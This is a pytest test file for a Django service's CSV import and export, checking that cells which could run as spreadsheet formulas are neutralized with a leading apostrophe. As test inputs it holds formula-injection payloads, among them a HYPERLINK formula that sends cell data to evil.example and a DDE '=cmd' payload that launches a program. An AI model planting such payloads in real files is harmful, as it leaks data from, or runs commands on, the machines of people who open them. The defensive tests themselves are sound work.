"""Every CSV the service writes is safe to open in a spreadsheet: text that a spreadsheet
would run as a formula starts with an apostrophe (issue 19)."""

import csv
import io

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import call_command

from tests.conftest import login_verified
from tuidang.core import csvfiles

pytestmark = pytest.mark.django_db

REFS = ['=HYPERLINK("http://evil.example/?"&A1,"open")', "+1+1", "-2+3", "@SUM(A1)",
        "\t=1+1"]
CSV_FILE = "ref,display_name,organizations\n" + "".join(
    f'"{ref.replace(chr(34), chr(34) * 2)}",张{i},party\n' for i, ref in enumerate(REFS))


def rows_of(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))


def assert_neutralized(rows: list[list[str]], column: int) -> None:
    refs = [row[column] for row in rows[1:] if row[column]]
    assert sorted(refs) == sorted("'" + ref.strip() for ref in REFS)  # refs are trimmed


def test_the_import_page_report_neutralizes_formulas_in_refs(client, alice):
    login_verified(client, alice)
    response = client.post("/en/helpers/import/", {
        "file": SimpleUploadedFile("people.csv", CSV_FILE.encode()), "consent": "on",
        "channel": "phone"})
    assert response.status_code == 200
    rows = rows_of(response.content.decode("utf-8"))
    assert [row[2] for row in rows[1:-1]] == ["imported"] * len(REFS)
    assert_neutralized(rows, 1)


def test_the_import_command_neutralizes_formulas_in_its_report_and_receipts(
        tmp_path, alice):
    source = tmp_path / "people.csv"
    source.write_text(CSV_FILE + '"=cmd|\' /C calc\'!A0",,party\n')
    report, receipts = tmp_path / "report.csv", tmp_path / "receipts.csv"
    call_command("import_declarations", str(source), helper="alice", no_progress=True,
                 report=report, receipts=receipts, language="en",
                 stdout=io.StringIO())
    assert_neutralized(rows_of(receipts.read_text(encoding="utf-8")), 1)
    rejected = rows_of(report.read_text(encoding="utf-8"))
    assert {row[3] for row in rejected[1:]} == {"'=cmd|' /C calc'!A0"}


def test_numbers_and_plain_text_are_written_as_they_are():
    out = io.StringIO()
    csvfiles.writer(out, lineterminator="\n").writerows(
        [[-3, 0, 2.5, "张三", "a-b", "", None, "-", "+"], ["-1", "@x", "==", "+ ", "\tx"]])
    assert out.getvalue() == "-3,0,2.5,张三,a-b,,,-,+\n'-1,'@x,'==,'+ ,'\tx\n"
